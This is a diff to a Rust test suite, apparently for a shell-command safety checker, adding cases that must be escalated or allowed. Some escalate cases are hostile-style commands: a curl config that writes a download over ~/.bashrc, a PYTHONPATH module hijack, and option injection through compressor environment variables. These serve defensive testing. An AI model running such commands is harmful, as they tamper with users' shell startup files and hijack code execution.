@@ -7775,6 +7775,7 @@ fn s22_v4_program_variables() {
         "mkdir -p /tmp/pp; printf 'import os\\n' > /tmp/pp/json.py; PYTHONPATH=/tmp/pp python3 -c 'import json'",
         "GZIP='-S x' gzip f",
         "XZ_OPT='--filters=x' xz f",
+        "printf 'output=/home/alice/.bashrc\\n' > /tmp/k; curl -K /tmp/k https://example.com",
     ] {
         escalate(cmd, "shell.eval-dynamic");
     }
@@ -7788,6 +7789,8 @@ fn s22_v4_program_variables() {
         "WGETRC=/etc/wgetrc wget https://example.com/rc",
         "HOME=/tmp/h ls",
         "TAR_OPTIONS= tar -xf x.tar",
+        "curl -K ci/curlrc https://example.com",
+        "ENV=production npm start",
     ] {
         allow(cmd);
     }
